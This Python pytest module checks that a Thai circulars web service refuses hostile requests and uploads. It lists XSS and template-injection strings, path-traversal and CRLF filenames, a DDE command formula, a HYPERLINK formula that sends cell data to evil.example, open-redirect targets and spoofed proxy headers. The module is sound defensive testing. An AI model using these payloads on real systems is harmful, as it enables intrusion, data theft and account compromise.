"""Everything that strangers may try: each attempt is refused in Thai, and the service lives on."""

from __future__ import annotations

import csv
import io
import re
from typing import TYPE_CHECKING

import openpyxl
import pytest
from docx import Document

from circulars.service.people import Role
from web.conftest import csrf_in, log_in
from web.hostile_bodies import ADDRESSES, FORMS, JSON
from web.hostile_files import IMAGES, LETTERS, READ_WORKBOOKS, TEMPLATES, WORKBOOKS
from web.hostile_house import BOOK, TYPE, House, opened
from web.hostile_requests import OTHERS, PATHS, WHENCE, WHO

if TYPE_CHECKING:
    from collections.abc import Iterator

    from httpx2 import Response

    from web.hostile_requests import Attack

pytestmark = pytest.mark.xdist_group("hostile")
THAI = re.compile("[ก-๙]")
ATTACKS = [*WHO, *WHENCE, *PATHS, *OTHERS, *JSON, *FORMS, *ADDRESSES]
SCRIPT = "\"'><script>alert(1)</script>{{7*7}}"


@pytest.fixture(scope="module")
def house(tmp_path_factory: pytest.TempPathFactory) -> Iterator[House]:
    """Give a service with two offices, for all tests here."""
    with opened(tmp_path_factory.mktemp("house")) as house:
        yield house


def refused(house: House, answer: Response, before: set[str], *codes: str) -> None:
    """Fail unless an answer is a refusal in Thai, without a trace of the program, or of a file."""
    assert 400 <= answer.status_code < 500, answer.text[:500]
    assert THAI.search(answer.text), answer.text[:500]
    assert not re.search(r"Traceback|\.py\b|site-packages|root:x:0", answer.text)
    assert before == house.files()
    if codes and "json" in answer.headers["content-type"]:
        assert answer.json()["findings"][0]["code"] in codes
    elif codes:
        assert set(codes) & set(re.findall(r'data-code="([a-z-]+)"', answer.text))
    assert 200 == house.nobody.get("/healthz").status_code


def test_there_are_more_than_sixty() -> None:
    """The list of attempts is as long as was asked for, and no name stands twice."""
    names = [attack.name for attack in ATTACKS]
    files = (WORKBOOKS, READ_WORKBOOKS, LETTERS, TEMPLATES, IMAGES)
    names += [name for table in files for name in table]
    assert len(names) == len(set(names)) > 60


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.name)
def test_hostile_request(house: House, attack: Attack) -> None:
    """A hostile request is refused with its status and code; nothing of it stays on the disk."""
    before = house.files()
    answer = attack.ask(house)
    if isinstance(answer, int):
        assert answer in attack.status
    elif answer.status_code == 303:
        assert 303 in attack.status
        assert answer.headers["location"].startswith("/login")
    else:
        assert answer.status_code in attack.status, answer.text[:500]
        refused(house, answer, before, *filter(None, [attack.code]))
    assert before == house.files()


@pytest.mark.parametrize("name", WORKBOOKS)
def test_hostile_workbook(house: House, name: str) -> None:
    """A workbook that is none, or made to harm, is refused at every door with the reason."""
    make, called, code = WORKBOOKS[name]
    sent, before = (called, make()), house.files()
    form = {"type": TYPE}
    headers = house.bearer()
    ask = house.nobody.post("/api/v1/letters", data=form, files={"workbook": sent}, headers=headers)
    refused(house, ask, before, code)
    ask = house.admin.post("/register/import", files={"workbook": sent})
    refused(house, ask, before, code)


@pytest.mark.parametrize("name", READ_WORKBOOKS)
def test_hostile_inside_of_a_workbook(house: House, name: str) -> None:
    """What only shows when a workbook is read is refused with a finding, and no letter is made."""
    sent = ("a.xlsx", READ_WORKBOOKS[name]())
    headers = house.bearer()
    answer = house.nobody.post(
        "/api/v1/letters", data={"type": TYPE}, files={"workbook": sent}, headers=headers
    )
    refused(house, answer, house.files())
    found = house.nobody.post("/api/v1/check", files={"files": sent}, headers=headers)
    assert found.status_code in {200, 422}, found.text
    assert found.json()["findings"]


@pytest.mark.parametrize("name", LETTERS)
def test_hostile_letter(house: House, name: str) -> None:
    """A letter made to harm is refused, or checked with findings, and never converted."""
    make, code = LETTERS[name]
    sent, headers, before = ("a.docx", make()), house.bearer(), house.files()
    found = house.nobody.post("/api/v1/check", files={"files": sent}, headers=headers)
    codes = [each["code"] for each in found.json()["findings"]]
    assert code in codes if code else codes
    assert found.status_code in {200, 422}
    answer = house.nobody.post("/api/v1/convert/file", files={"file": sent}, headers=headers)
    refused(house, answer, before | house.files(), *filter(None, [code]))


@pytest.mark.parametrize("name", TEMPLATES)
def test_hostile_template(house: House, name: str) -> None:
    """A template whose tags attack harms nobody who looks at it, and never becomes a letter."""
    document = Document()
    document.add_paragraph(TEMPLATES[name])
    document.save(made := io.BytesIO())
    sent = {"template": ("แบบ.docx", made.getvalue())}
    kind = name.replace(" ", "_")
    begun = house.admin.post("/types/new/template", data={"name": kind}, files=sent)
    assert begun.status_code in {200, 422}, begun.text
    if begun.status_code == 200:
        draft = begun.url.path
        looked = [house.admin.get(draft + page) for page in ("", "/preview", "/preview/example")]
        looked.append(house.admin.post(f"{draft}/publish", data={"why": "x", "seen": "0"}))
        assert not any("uid=" in answer.text or answer.status_code >= 500 for answer in looked)
    asked = {"type": kind, "pdf": "false"}
    files = {"workbook": ("a.xlsx", BOOK.read_bytes())}
    answer = house.nobody.post("/api/v1/letters", data=asked, files=files, headers=house.bearer())
    refused(house, answer, house.files())


@pytest.mark.parametrize("name", IMAGES)
def test_hostile_image(house: House, name: str) -> None:
    """A picture that is none, or too large to unpack, does not become the emblem."""
    make, called = IMAGES[name]
    before = house.files()
    answer = house.admin.post("/office", data={"do": "save"}, files={"image": (called, make())})
    refused(house, answer, before)


@pytest.mark.parametrize(
    "name",
    [
        "../../../etc/cron.d/x.xlsx",
        "..\\..\\x.xlsx",
        "/etc/passwd",
        "a\r\nSet-Cookie: x=1.xlsx",
        "\u202excod.exe",
        "ก\u200bข\ufeff.xlsx",
        pytest.param("a" * 5_000 + ".xlsx", id="long"),
        ".htaccess",
        "con.xlsx",
        "<script>alert(1)</script>.xlsx",
        "=cmd|'/c calc'!A1.xlsx",
    ],
)
def test_names_of_files_are_not_trusted(house: House, name: str) -> None:
    """A file's name leads nowhere, breaks no header, and is shown without tricks."""
    outside = {path.name for path in house.data.parent.iterdir()}
    sent = {"file": (name, BOOK.read_bytes())}
    answer = house.admin.post("/convert", files=sent)
    assert answer.status_code in {200, 400, 422}, answer.text
    assert "<script>alert" not in answer.text
    assert not re.search("[\u200b\ufeff\u202e]", answer.text)
    if answer.status_code == 200:
        file = house.admin.get(f"{answer.url.path}/file")
        assert "set-cookie" not in file.headers
        assert file.headers["content-disposition"].startswith("attachment;")
    assert outside == {path.name for path in house.data.parent.iterdir()}


def test_scripts_are_text_on_every_page(house: House) -> None:
    """What somebody types is shown as they typed it, never run: in all forms, on all pages."""
    ask = house.admin
    draft = ask.post("/letters", data={"type": TYPE}).url.path
    ask.post(f"{draft}/workbook", files={"file": ("ย.xlsx", BOOK.read_bytes())})
    fields = ("เรื่อง", "เลขที่", "วันที่", "f-เรื่อง", "f.เรื่อง", "answer-เรื่อง")
    typed = ask.post(f"{draft}/answers", data=dict.fromkeys(fields, SCRIPT))
    names = ("subject", "recipient", "sender", "action", "note", "holder", "reason", "unit")
    taken = ask.post("/register/take", data={**dict.fromkeys(names, SCRIPT), "unit": ""})
    invited = ask.post("/people", data={"name": SCRIPT, "login": "scripter", "role": "staff"})
    token = ask.post("/people/tokens/new", data={"system": SCRIPT, "role": "staff"})
    office = ask.post("/office", data={"do": "save", "name": SCRIPT, "issuer": SCRIPT})
    read = ask.post("/convert/readings", data={"text": SCRIPT})
    named = ask.post("/types/new/copy", data={"name": SCRIPT, "source": TYPE})
    lost = ask.get(f"/types/{SCRIPT}")
    logged = house.client()
    csrf = csrf_in(logged.get("/login").text)
    wrong = logged.post("/login", data={"login": SCRIPT, "password": SCRIPT, "csrf": csrf})
    pages = ["/", "/register", "/people", "/people/deeds", "/jobs", "/office", "/types", draft]
    seen = [ask.get(page) for page in pages]
    sent = [typed, taken, invited, token, office, read, named, lost, wrong]
    for answer in [*sent, *seen]:
        assert answer.status_code < 500, answer.text[:300]
        assert "<script>alert" not in answer.text, answer.url
        assert "49" not in re.findall(r"script&gt;(49)", answer.text)
        assert "script-src 'self'" in answer.headers["content-security-policy"]


def test_formulas_stay_text_in_what_is_exported(house: House) -> None:
    """A subject that begins like a formula is text in the exported register, for Excel too."""
    formula = '=HYPERLINK("http://evil.example?"&A1,"x")'
    form = {"subject": formula, "recipient": "@SUM(1)", "note": "+1", "key": "formula"}
    taken = house.nobody.post("/api/v1/register", json=form, headers=house.bearer())
    assert 201 == taken.status_code, taken.text
    book = openpyxl.load_workbook(
        io.BytesIO(house.admin.get("/register/export/register.xlsx").content)
    )
    kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
    assert "f" not in kinds
    text = house.admin.get("/register/export/register.csv").content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    assert [] == [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


@pytest.mark.parametrize(
    "target",
    [
        "//evil.example",
        "https://evil.example",
        "/\\evil.example",
        "\\\\evil.example",
        "javascript:alert(1)",
        "/%0d%0aSet-Cookie:x=1",
        "http:evil.example",
        "/login?next=//evil.example",
        "\t//evil.example",
    ],
)
def test_login_leads_only_into_the_service(house: House, target: str) -> None:
    """After the login nobody is sent to another site, or to a script."""
    client = house.client()
    form = {"login": "admin", "password": "ทุ่งนาสีเขียวหน้าฝน", "next": target}
    form["csrf"] = csrf_in(client.get("/login", params={"next": target}).text)
    answer = client.post("/login", data=form, follow_redirects=False)
    assert 303 == answer.status_code, answer.text
    assert re.fullmatch(r"/(?![/\\])\S*", answer.headers["location"])
    assert "evil" not in answer.headers["location"]


def test_headers_of_a_proxy_lead_nowhere(house: House) -> None:
    """Names in headers that a proxy may send appear in no answer: no cache is poisoned by them."""
    headers = {
        "X-Forwarded-Host": "evil.example",
        "X-Forwarded-Prefix": "/evil",
        "X-Original-URL": "/people",
        "X-Rewrite-URL": "/people",
        "Forwarded": "host=evil.example",
    }
    for page in ("/login", "/register"):
        answer = house.client().get(page, headers=headers, follow_redirects=False)
        assert "evil" not in answer.text + str(answer.headers)
        assert "no-store" in answer.headers["cache-control"]


def test_many_ranges_cost_nothing(house: House) -> None:
    """A request for thousands of pieces of a file gives no more than the file, and no error."""
    ranges = "bytes=" + ",".join(f"{n}-" for n in range(2_000))
    answer = house.nobody.get("/static/circulars.css", headers={"Range": ranges})
    assert answer.status_code in {200, 206, 400, 416}
    assert len(answer.content) < 2_000_000


def test_passwords_cannot_be_tried_for_ever(house: House) -> None:
    """After some wrong passwords a login is refused for a while; the answer says so."""
    client = house.client()
    statuses = []
    for number in range(30):
        csrf = csrf_in(client.get("/login").text)
        form = {"login": "editor2", "password": f"wrong {number}", "csrf": csrf}
        answer = client.post("/login", data=form)
        statuses.append(answer.status_code)
        if answer.status_code == 429:
            break
    assert 429 == statuses[-1]
    assert THAI.search(answer.text)
    log_in(house.client(), Role.STAFF.value)


def test_both_offices_are_as_they_were(house: House) -> None:
    """After everything, the other office still has its things, and its people come in."""
    things = house.things
    for path in ("/jobs/{job}", "/letters/{draft}", "/check/{check}", "/convert/{conversion}"):
        assert 200 == house.other.get(path.format(**things)).status_code
    assert "เรื่องลับของสอง" in house.other.get("/register").text
    assert "เรื่องลับของสอง" not in house.admin.get("/register").text
    assert 200 == house.other.get("/people").status_code
